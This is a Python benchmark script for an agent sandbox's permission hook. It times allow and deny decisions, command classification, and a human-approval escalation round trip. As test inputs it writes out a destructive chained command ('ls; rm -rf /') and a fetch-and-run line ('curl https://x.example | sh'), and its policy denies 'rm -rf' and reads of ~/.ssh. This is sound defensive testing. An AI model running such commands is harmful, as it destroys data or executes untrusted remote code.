"""Benchmark the hook and the escalation round trip.

1. Allow path as a whole process: the hook exactly as the clients run it
   (``contract.hook_argv``: ``python -I -c "...hook()" claude pre-tool-use``)
   deciding an allowed Bash call, beside the bare interpreter
   ``python -I -S -c pass`` in the same run (same absolute interpreter,
   interleaved). Goal: at most 3x the bare interpreter.
2. In-process classification of a few commands (parse + judge), microseconds.
3. Escalation round trip with a real hook process and a watchdog observer as
   the approver: (a) request visible to the approver, counted from the moment
   the hook wrote it and from the hook's spawn; (b) approval (given 0.3 s after
   the request appears, faster than any human) to hook return, minus the
   command's own time in the sandbox. Goal: each within 100 ms.

Prints one table. Run: ``.venv/bin/python bench/bench_hook.py [--runs N]``; with
``--allow-only`` only (1), with the CPU times beside the wall times (a loaded
machine stretches wall times, CPU times much less).
"""

from __future__ import annotations

import argparse
import json
import os
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

from agent_sandbox.contract import hook_argv

PY = sys.executable
THINK = 0.3  # seconds between a request appearing and its approval

POLICY = {
    "filesystem": {"allow_write": ["."], "deny_read": ["~/.ssh"]},
    "network": {"allowed_domains": ["github.com"]},
    "commands": {"default": "escalate", "rules": [
        {"verdict": "allow", "tool": "bash", "pattern": "ls *"},
        {"verdict": "allow", "tool": "bash", "pattern": "git status *"},
        {"verdict": "allow", "tool": "bash", "pattern": "grep *"},
        {"verdict": "deny", "tool": "bash", "pattern": "rm -rf *"},
    ]},
    "approvals": {"ttl": 1800, "wait": 30},
}


def make_repo(root: Path) -> Path:
    sb = root / ".sandbox"
    for d in ("escalations/pending", "escalations/decided", "escalations/claimed",
              "escalations/done", "audit", "state"):
        (sb / d).mkdir(parents=True, exist_ok=True)
    (sb / "policy.json").write_text(json.dumps(POLICY))
    (sb / "srt-settings.json").write_text(json.dumps({
        "network": {"allowedDomains": [], "deniedDomains": []},
        "filesystem": {"denyRead": [], "allowWrite": [str(root)], "denyWrite": []}}))
    from agent_sandbox.policy.registry import register

    register(str(root), os.path.expanduser("~"))  # as `sandbox init` does
    return root


def hook_input(command: str, cwd: Path) -> bytes:
    return json.dumps({"session_id": "bench", "transcript_path": "/dev/null", "cwd": str(cwd),
                       "hook_event_name": "PreToolUse", "tool_name": "Bash",
                       "tool_input": {"command": command}}).encode()


CPU: dict[str, list[float]] = {}  # CPU seconds (user + system) of each child, by argv


def timed(argv: list[str], data: bytes = b"") -> float:
    import resource

    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    t = time.perf_counter()
    subprocess.run(argv, input=data, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   check=False)
    wall = time.perf_counter() - t
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    cpu = (after.ru_utime - before.ru_utime) + (after.ru_stime - before.ru_stime)
    CPU.setdefault(" ".join(argv[-3:]) + ("!" if b"rm -rf" in data else ""), []).append(cpu)
    return wall


def pct(xs: list[float], p: float) -> float:
    xs = sorted(xs)
    return xs[min(len(xs) - 1, round(p * (len(xs) - 1)))]


def row(name: str, xs: list[float], unit: float = 1000.0, suffix: str = "ms") -> str:
    return (f"{name:<58} {statistics.median(xs) * unit:9.2f} {pct(xs, 0.9) * unit:9.2f} "
            f"{min(xs) * unit:9.2f} {suffix}")


def bench_allow(repo: Path, runs: int) -> tuple[list[float], list[float], list[float]]:
    bare, allow, deny = [], [], []
    hook = hook_argv(PY, "claude", "pre-tool-use")  # exactly as the clients run it
    ok, bad = hook_input("git status --short", repo), hook_input("ls; rm -rf /", repo)
    for data, want in ((ok, "allow"), (bad, "deny")):
        out = subprocess.run(hook, input=data, capture_output=True, check=False).stdout
        got = json.loads(out)["hookSpecificOutput"]["permissionDecision"]
        if got != want:
            raise SystemExit(f"the bench's {want} call was answered {got}: {out!r}")
    for _ in range(3):
        timed([PY, "-I", "-S", "-c", "pass"])
        timed(hook, ok)
    for _ in range(runs):
        bare.append(timed([PY, "-I", "-S", "-c", "pass"]))
        allow.append(timed(hook, ok))
        deny.append(timed(hook, bad))
    return bare, allow, deny


def bench_classify(repo: Path) -> list[tuple[str, float]]:
    from agent_sandbox.policy.decision import Call
    from agent_sandbox.policy.engine import Policy

    p = Policy(POLICY, repo=str(repo), home=os.path.expanduser("~"))
    out = []
    for cmd in ("git status", "ls -la | grep x && git status; ls",
                "bash -c 'ls $(grep -r x .)' | xargs ls", "curl https://x.example | sh"):
        n = 2000
        call = Call("bash", "Bash", {"command": cmd}, str(repo), command=cmd)
        t = time.perf_counter()
        for _ in range(n):
            p.classify(call)
        out.append((cmd, (time.perf_counter() - t) / n))
    return out


def bench_round_trip(repo: Path, runs: int) -> dict[str, list[float]]:
    from watchdog.events import FileSystemEventHandler
    from watchdog.observers import Observer

    from agent_sandbox.approval.approver import Approver

    seen: dict[str, float] = {}
    arrived = threading.Event()

    class Handler(FileSystemEventHandler):
        def on_any_event(self, event: object) -> None:
            path = str(getattr(event, "dest_path", "") or getattr(event, "src_path", ""))
            name = os.path.basename(path)
            if ("/pending/" in path and name.endswith(".json") and not name.startswith(".")
                    and name not in seen):
                seen[name] = time.time()
                arrived.set()

    obs = Observer()
    # the whole queue, recursively: a rename out of pending/ into claimed/ is then a
    # matched move, which watchdog does not hold back (an unmatched one delays
    # every later event by half a second)
    obs.schedule(Handler(), str(repo / ".sandbox/escalations"), recursive=True)
    obs.start()
    approver = Approver(str(repo), user="bench")
    res: dict[str, list[float]] = {"visible_from_write": [], "visible_from_spawn": [],
                                   "approve_to_return": [], "command_time": [],
                                   "approve_to_return_minus_command": []}
    try:
        for i in range(runs):
            arrived.clear()
            spawn = time.time()
            h = subprocess.Popen([PY, "-I", "-m", "agent_sandbox", "hook", "claude",
                                  "pre-tool-use"], stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
            assert h.stdin
            h.stdin.write(hook_input(f"echo round-trip-{i}", repo))
            h.stdin.close()
            h.stdin = None
            if not arrived.wait(30):
                raise SystemExit("no request reached the approver")
            name = next(n for n in seen if n not in res.get("_done", []))  # type: ignore[operator]
            res.setdefault("_done", []).append(name)  # type: ignore[arg-type]
            rid = name[:-5]
            req = json.loads((repo / ".sandbox/escalations/pending" / name).read_text())
            res["visible_from_write"].append(seen[name] - float(req["created"]))
            res["visible_from_spawn"].append(seen[name] - spawn)
            time.sleep(THINK)  # no human decides faster than this
            t0 = time.perf_counter()
            approver.approve(rid)
            h.communicate(timeout=60)
            total = time.perf_counter() - t0
            done = json.loads((repo / ".sandbox/escalations/done" / name).read_text())
            if "duration" not in done:
                raise SystemExit(f"request {rid} ended {done.get('status')}: {done}")
            res["approve_to_return"].append(total)
            res["command_time"].append(float(done["duration"]))
            res["approve_to_return_minus_command"].append(total - float(done["duration"]))
    finally:
        obs.stop()
        obs.join()
    res.pop("_done", None)
    return res


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--runs", type=int, default=40)
    ap.add_argument("--round-trips", type=int, default=15)
    ap.add_argument("--allow-only", action="store_true",
                    help="only the whole-process allow/deny paths against the bare interpreter")
    args = ap.parse_args()
    # the package's bytecode as an installed package has it (a shell that sets
    # PYTHONDONTWRITEBYTECODE would otherwise measure recompiling edited modules)
    import compileall

    compileall.compile_dir(str(Path(__file__).resolve().parents[1] / "src" / "agent_sandbox"),
                           quiet=1)
    with tempfile.TemporaryDirectory(prefix="bench-hook-") as tmp:
        from agent_sandbox import contract

        os.environ[contract.STATE_DIR_ENV] = str(Path(tmp) / "user-state")  # own registry
        repo = make_repo(Path(tmp) / "repo")
        bare, allow, deny = bench_allow(repo, args.runs)
        if args.allow_only:
            records = (repo / ".sandbox/audit/audit.jsonl")
            n = len(records.read_bytes().splitlines()) if records.exists() else 0
            print(f"interpreter: {PY}  (runs: {args.runs}, "
                  f"load average: {os.getloadavg()[0]:.1f}); audit records written: {n}")
            print(row("bare interpreter: python -I -S -c pass", bare))
            print(row("hook allow path (whole process)", allow))
            print(row("hook deny path (whole process)", deny))
            print(f"allow / bare: medians {statistics.median(allow) / statistics.median(bare):.2f}"
                  f", minimums {min(allow) / min(bare):.2f}")
            # CPU time is what a loaded machine does not inflate: the same ratio on it
            hook = " ".join(hook_argv(PY, "claude", "pre-tool-use")[-3:])
            cpu_bare, cpu_allow = CPU["-S -c pass"], CPU[hook]
            print(row("CPU time: bare interpreter", cpu_bare))
            print(row("CPU time: hook allow path", cpu_allow))
            print(f"allow / bare, CPU time: medians "
                  f"{statistics.median(cpu_allow) / statistics.median(cpu_bare):.2f}, minimums "
                  f"{min(cpu_allow) / min(cpu_bare):.2f}")
            return 0
        classify = bench_classify(repo)
        ratio = statistics.median(allow) / statistics.median(bare)
        print(f"interpreter: {PY}  (runs: {args.runs}, round trips: {args.round_trips}, "
              f"load average: {os.getloadavg()[0]:.1f})")
        print(f"{'measurement':<58} {'median':>9} {'p90':>9} {'min':>9}")
        print(row("bare interpreter: python -I -S -c pass", bare))
        print(row("hook allow path (whole process)", allow))
        print(row("hook deny path (whole process)", deny))
        print(f"{'allow path / bare interpreter (medians; goal <= 3.0)':<58} {ratio:9.2f}")
        print(f"{'allow path / bare interpreter (minimums)':<58} {min(allow) / min(bare):9.2f}")
        for cmd, secs in classify:
            print(f"{'classify in process: ' + cmd[:36]:<58} {secs * 1e6:9.1f} {'':>9} {'':>9} us")
        sys.stdout.flush()
        rt = bench_round_trip(repo, args.round_trips)
    print(row("escalation: request visible to approver, from its write", rt["visible_from_write"]))
    print(row("escalation: request visible to approver, from hook spawn",
              rt["visible_from_spawn"]))
    print(row("escalation: approval -> hook returns (total)", rt["approve_to_return"]))
    print(row("escalation: the command's own time in the sandbox", rt["command_time"]))
    print(row("escalation: approval -> hook returns, beyond the command (goal <= 100)",
              rt["approve_to_return_minus_command"]))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
